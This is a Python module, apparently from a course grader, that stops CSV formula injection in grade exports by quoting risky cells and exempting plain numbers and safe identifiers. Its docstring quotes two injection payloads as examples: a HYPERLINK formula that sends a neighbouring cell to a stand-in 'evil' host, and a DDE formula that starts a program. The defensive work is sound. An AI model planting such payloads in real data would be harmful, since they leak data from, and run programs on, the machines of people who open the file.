"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV or formula injection).

Every CSV the grader writes (the grade table, the LMS imports and their side files) is opened by an instructor in
Excel, LibreOffice or Google Sheets sooner or later, and some of its cells come from students: a name in the
roster, a note quoting an error message the student's code raised. A spreadsheet reads a cell that starts with
`=`, `+`, `-` or `@` as a formula, so a student named `=HYPERLINK("http://evil/?"&A2,"x")` sends the row next to
theirs to a web server when it is clicked, and `=cmd|' /C calc'!A0` (Excel's DDE) asks to start a program. A
leading tab or carriage return (OWASP) and a NUL byte (ASVS) are on the list too: some importers skip them and read
what follows as the start of the cell.

OWASP's advice (the CSV Injection page; ASVS 5.0 requirement 1.2.10) is followed: a cell that starts with one of
these characters gets a single quote in front, which spreadsheets take as "this is text" and an LMS import keeps
as part of the text (a name reads `'=HYPERLINK(...)` there, which is visibly odd, and harmless). The csv module
then quotes the cell as RFC 4180 says when it holds a comma, a quote or a line break.

Identifiers are the other exception. A Canvas login `@alice` or `+44…` with a quote in front is no longer the login
Canvas matches, so an LMS import would give its grade to nobody (or, matched by name, to a namesake). An identifier
is written as it is when it is `identifier_cell`'s plain shape: letters, digits and `.`, `_`, `-`, `+`, `@`, `=` only.
A spreadsheet that reads such a cell as a formula finds no function call (no parenthesis), no DDE link (no `|` or
`!`), no text and no cell range in it, at worst a sum of numbers or a #NAME? error; the LMS reads it as it is. An
identifier of any other shape that starts like a formula is not written at all (the export leaves its row out and
says why): it is the one case where the platform and a spreadsheet cannot both be served.

One exception more: a cell that is a plain decimal number (`-3`, `-0.5`, `+2`, `-1e-3`) is left as it is. A spreadsheet
reads it as that number, and a number calls no function and refers to no cell or program; quoting it would turn a
score into text that an LMS import refuses. The test is a strict pattern, not float(): `float` also accepts
`-inf`, `-nan`, `-1_000` and surrounding spaces, which a spreadsheet reads as a formula (a name) or as text.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0", "'")  # and the quote itself: plain_cell reads back each
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
PLAIN_IDENTIFIER = re.compile(r"[\w.+@=-]+")  # no ( | ! " ' space: nothing a harmful formula needs


class Identifier(str):
    "A cell an LMS matches a student by, checked by identifier_cell: written as it is, never with a quote in front."


def identifier_cell(value: str) -> Identifier | None:
    """`value` as an identifier cell, or None when it starts like a formula and is not of the plain shape that no
    spreadsheet can run (see the module's docstring): such an identifier cannot be written safely."""
    if value.startswith(FORMULA_START) and not PLAIN_IDENTIFIER.fullmatch(value):
        return None
    return Identifier(value)


def safe_cell(value: object) -> str:
    """The text of one CSV cell, as the csv module would write `value` (None is empty), with a single quote in front
    when it would start a formula; a plain decimal number stays as it is."""
    text = "" if value is None else str(value)
    if isinstance(value, Identifier):
        return text
    if text.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def plain_cell(text: str) -> str:
    "The text safe_cell was given: a cell it put a quote in front of, read back without it (a roster read again)."
    if text.startswith("'") and safe_cell(text[1:]) == text:
        return text[1:]
    return text


class SafeWriter:
    "csv.writer's writerow and writerows, with every cell passed through safe_cell first."

    def __init__(self, file: TextIO, **options: Any) -> None:
        self.writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self.writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: TextIO, **options: Any) -> SafeWriter:
    "A drop-in for csv.writer(file, **options) whose cells cannot start a spreadsheet formula (see safe_cell)."
    return SafeWriter(file, **options)
